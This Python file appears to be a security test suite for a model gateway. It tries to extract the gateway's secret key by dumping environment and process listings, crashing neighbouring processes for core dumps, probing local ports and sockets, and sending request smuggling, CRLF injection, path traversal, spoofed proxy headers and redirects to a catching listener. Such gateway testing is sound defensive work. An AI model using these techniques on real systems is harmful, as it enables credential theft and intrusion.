"""Attempts to get the key that the model gateway keeps: from the gateway, its files, and what the host starts."""

from __future__ import annotations

import base64
import binascii
import contextlib
import http.client
import json
import os
import re
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

from harness import attempt, find_secret, first_success, neighbours

GOAL = "key"
GATEWAY = urlsplit(os.environ["SCOREGATE_GATEWAY_URL"])
TOKEN = os.environ["OPENAI_API_KEY"]
CHAT = "/openai/v1/chat/completions"
CAUGHT: list[bytes] = []
Path("attacker-token").write_text(TOKEN)


def listen() -> int:
    """Keep everything that arrives at a port."""
    server = socket.create_server(("127.0.0.1", 0))

    def answer() -> None:
        while True:
            connection, _ = server.accept()
            with contextlib.suppress(OSError), connection:
                connection.settimeout(1)
                CAUGHT.append(connection.recv(1 << 16))
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")

    threading.Thread(target=answer, daemon=True).start()
    return int(server.getsockname()[1])


PORT = listen()
MINE = f"http://127.0.0.1:{PORT}"


def body(text: str, **more: object) -> bytes:
    return json.dumps({"model": "gpt-4o", "messages": [{"role": "user", "content": text}], **more}).encode()


def send(data: bytes) -> bytes:
    """Send bytes to the gateway, and return what comes back."""
    with socket.create_connection((GATEWAY.hostname, GATEWAY.port), timeout=3) as connection:
        connection.sendall(data)
        answer = b""
        with contextlib.suppress(TimeoutError):
            while part := connection.recv(1 << 16):
                answer += part
        return answer


def ask(text: str = "hello", path: str = CHAT, method: str = "POST", **headers: str) -> bytes:
    """Make a request with a valid token, and return the whole answer."""
    connection = http.client.HTTPConnection(str(GATEWAY.hostname), GATEWAY.port, timeout=5)
    sent = {"authorization": f"Bearer {TOKEN}", "content-type": "application/json"}
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    try:
        connection.request(method, path, body(text) if method == "POST" else None, {**sent, **named})
        answer = connection.getresponse()
        return f"{answer.status} {answer.headers}".encode() + answer.read()
    finally:
        connection.close()


def found(answer: bytes) -> object:
    """The key in an answer, as it is or encoded, or caught at the own port."""
    texts = [answer, *CAUGHT]
    for match in re.findall(rb"[A-Za-z0-9+/_=-]{24,}", b" ".join(texts)):
        for start in range(4):
            with contextlib.suppress(binascii.Error, ValueError):
                piece = match[start:]
                texts.append(base64.b64decode(piece[: len(piece) // 4 * 4], altchars=b"-_"))
        with contextlib.suppress(ValueError):
            texts.append(bytes.fromhex(match.decode()))
    return next(filter(None, map(find_secret, texts)), None)


@attempt(GOAL)
def what_children_inherit() -> object:
    return find_secret(subprocess.run(["sh", "-c", "env; set"], capture_output=True, check=False).stdout)


@attempt(GOAL)
def list_of_processes() -> object:
    return find_secret(subprocess.run(["ps", "auxewww"], capture_output=True, check=False).stdout)


@attempt(GOAL)
def inherited_handles() -> object:
    def read(path: Path) -> object:
        number = int(path.name)
        if number < 3:
            return None
        target = str(path.readlink())
        if target.startswith("socket:"):
            address = socket.socket(fileno=os.dup(number)).getsockname()
            return address if isinstance(address, tuple) and GATEWAY.port in address else None
        return find_secret(Path(f"/proc/self/fd/{number}").read_bytes()[: 1 << 20]) if target.startswith("/") else None

    return first_success([Path("/proc/self/fd", name) for name in os.listdir("/proc/self/fd")], read)  # noqa: PTH208


@attempt(GOAL)
def folders_of_the_gateway() -> object:
    def look(path: Path) -> object:
        return path.is_dir() and os.listdir(path)  # noqa: PTH208

    places = [*Path("/tmp").glob("scoregate*"), *Path("/tmp").glob("scoregate*/*"), Path("/github/runner_temp")]
    return first_success([path for place in places for path in (place / "gateway", place / "cassettes")], look)


@attempt(GOAL)
def files_of_the_gateway() -> object:
    names = ("calls", "calls.sqlite", "cassettes.sqlite", "cache/answers.sqlite", "recorded")
    roots = [path for pid in neighbours() for path in (Path(f"/proc/{pid}/cwd"), Path(f"/proc/{pid}/root/tmp"))]
    return first_success([root / name for root in roots for name in names], lambda path: path.stat().st_size)


@attempt(GOAL)
def core_dumps() -> object:
    """Crash whoever has the key, and look for what is left of it."""
    for pid in neighbours():
        for number in (signal.SIGABRT, signal.SIGSEGV, signal.SIGQUIT):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
                return f"{pid} got {number.name}"
    cores = [path for place in ("/", "/tmp", "/var/crash", ".") for path in Path(place).glob("core*")]
    return first_success([path for path in cores if path.is_file()], lambda path: find_secret(path.read_bytes()))


@attempt(GOAL)
def every_port() -> object:
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] != "0A":
            continue
        address = ("127.0.0.1", int(fields[1].partition(":")[2], 16))
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=1) as connection:
            connection.sendall(b"GET /debug HTTP/1.0\r\n\r\n")
            if value := find_secret(connection.recv(1 << 16)):
                return value
    return None


@attempt(GOAL)
def every_socket_file() -> object:
    def talk(path: Path) -> object:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(1)
            sock.connect(str(path))
            sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return find_secret(sock.recv(1 << 16))

    lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    return first_success([Path(line.split()[7]) for line in lines if len(line.split()) > 7], talk)


@attempt(GOAL)
def an_answer_with_the_headers_of_the_request() -> object:
    return found(ask("echo body"))


@attempt(GOAL)
def an_answer_with_the_key_in_its_headers() -> object:
    return found(ask("echo header"))


@attempt(GOAL)
def a_stream_with_the_key_in_pieces() -> object:
    return found(ask("echo stream"))


@attempt(GOAL)
def an_error_with_the_key() -> object:
    return found(ask("echo error"))


@attempt(GOAL)
def an_answer_with_the_key_in_base64() -> object:
    return found(ask("echo base64"))


@attempt(GOAL)
def an_answer_with_the_key_in_hex() -> object:
    return found(ask("echo hex"))


@attempt(GOAL)
def a_redirect_to_an_own_port() -> object:
    return found(ask(f"redirect {MINE}/v1/chat/completions"))


@attempt(GOAL)
def a_redirect_of_a_get() -> object:
    return found(ask(path=f"/openai/v1/models/redirect-{PORT}", method="GET"))


@attempt(GOAL)
def an_address_in_the_request_line() -> object:
    for target in (f"{MINE}/v1/chat/completions", f"{MINE}{CHAT}", f"//127.0.0.1:{PORT}{CHAT}"):
        for host in (GATEWAY.netloc, f"127.0.0.1:{PORT}"):
            data = body("x")
            head = f"POST {target} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n"
            head += f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
            if value := found(send(head.encode() + data)):
                return value
    return None


@attempt(GOAL)
def a_tunnel() -> object:
    head = f"CONNECT 127.0.0.1:{PORT} HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\nProxy-Authorization: Bearer {TOKEN}\r\n\r\n"
    return found(send(head.encode()))


@attempt(GOAL)
def another_host() -> object:
    return found(b"".join(ask("echo body", host=host) for host in (f"127.0.0.1:{PORT}", "evil.example", "")))


@attempt(GOAL)
def headers_of_proxies() -> object:
    mine = f"127.0.0.1:{PORT}"
    return found(
        ask(
            "echo body",
            x_forwarded_host=mine,
            x_forwarded_proto="http",
            x_original_url=f"{MINE}/",
            x_rewrite_url=f"{MINE}/",
            x_http_method_override="TRACE",
            forwarded=f"for=1;host={mine}",
            via="1.1 me",
            base_url=MINE,
            x_base_url=MINE,
            openai_base_url=MINE,
        )
    )


@attempt(GOAL)
def headers_of_the_connection() -> object:
    """A proxy that removes the headers that `Connection` names would send the request without them."""
    return found(ask("echo body", connection="authorization, close", te="trailers", trailer="authorization"))


@attempt(GOAL)
def own_keys_beside_the_token() -> object:
    names = ("x_api_key", "api_key", "x_goog_api_key", "cookie", "proxy_authorization")
    return found(ask("echo body", **dict.fromkeys(names, "x")))


@attempt(GOAL)
def two_requests_in_one() -> object:
    inner = b"POST http://127.0.0.1:%d/ HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n" % PORT
    answers = b""
    for second in (b"Transfer-Encoding: chunked", b"Content-Length: 50"):
        head = f"POST {CHAT} HTTP/1.1\r\nHost: {GATEWAY.netloc}\r\nAuthorization: Bearer {TOKEN}\r\n".encode()
        answers += send(head + b"Content-Length: 5\r\n" + second + b"\r\n\r\n0\r\n\r\n" + inner)
    return found(answers)


@attempt(GOAL)
def line_breaks_in_paths_and_headers() -> object:
    answers = b""
    for path in (f"{CHAT}?a=%0d%0aHost:%20127.0.0.1:{PORT}", f"/openai/v1/models/x%0d%0aHost:%20127.0.0.1:{PORT}"):
        with contextlib.suppress(Exception):
            answers += ask("echo body", path=path, method="GET" if "models" in path else "POST")
    head = f"POST {CHAT} HTTP/1.1\r\nHost: {GATEWAY.netloc}\r\nAuthorization: Bearer {TOKEN}\r\nX-A: a\nHost: "
    return found(answers + send(head.encode() + b"127.0.0.1:%d\r\nContent-Length: 0\r\n\r\n" % PORT))


@attempt(GOAL)
def paths_that_leave_the_provider() -> object:
    mine = f"127.0.0.1:{PORT}"
    paths = (
        "/openai/../", "/openai/..//" + mine, f"/openai/@{mine}/", f"/openai/v1/@{mine}/chat/completions", f"//{mine}/",
        "/openai/v1/models/../files", "/openai/v1/models/%2e%2e/files", "/openai/v1/models/..%2ffiles",
        "/openai/v1/models/..%5cfiles", "/openai/v1/models/.", "/gateway/", "/metrics", "/docs", "/openapi.json",
    )  # fmt: skip
    statuses = []
    for path in paths:
        answer = ask(path=path, method="GET")
        if value := found(answer):
            return value
        statuses.append(answer[:3])
    return f"{statuses}" if b"200" in statuses else None


@attempt(GOAL)
def methods_that_return_the_request() -> object:
    return found(b"".join(ask(method=method) for method in ("TRACE", "OPTIONS", "HEAD", "PUT", "PATCH", "DELETE")))


@attempt(GOAL)
def guessed_tokens() -> object:
    answers = b""
    for token in ("", "sk-scoregate", "sk-scoregate-", "null", "Bearer", "' OR 1=1 --", TOKEN[:-1], TOKEN + "x"):
        answers += ask("echo body", authorization=f"Bearer {token}")
    return answers if b"200 " in answers else None


@attempt(GOAL)
def a_connection_that_is_upgraded() -> object:
    headers = {"connection": "upgrade", "upgrade": "websocket", "sec_websocket_key": "x", "sec_websocket_version": "13"}
    return found(ask(path="/openai/v1/realtime", method="GET", **headers) + ask("echo body", **headers))


@attempt(GOAL)
def a_link_in_place_of_the_cache() -> object:
    """The host would write through it; the test looks at its target."""
    Path("elsewhere").mkdir(exist_ok=True)
    path = Path(".scoregate-cache")
    with contextlib.suppress(OSError):
        path.rename(f"{path}-moved-{time.monotonic_ns()}")
    with contextlib.suppress(OSError):
        path.symlink_to("elsewhere")
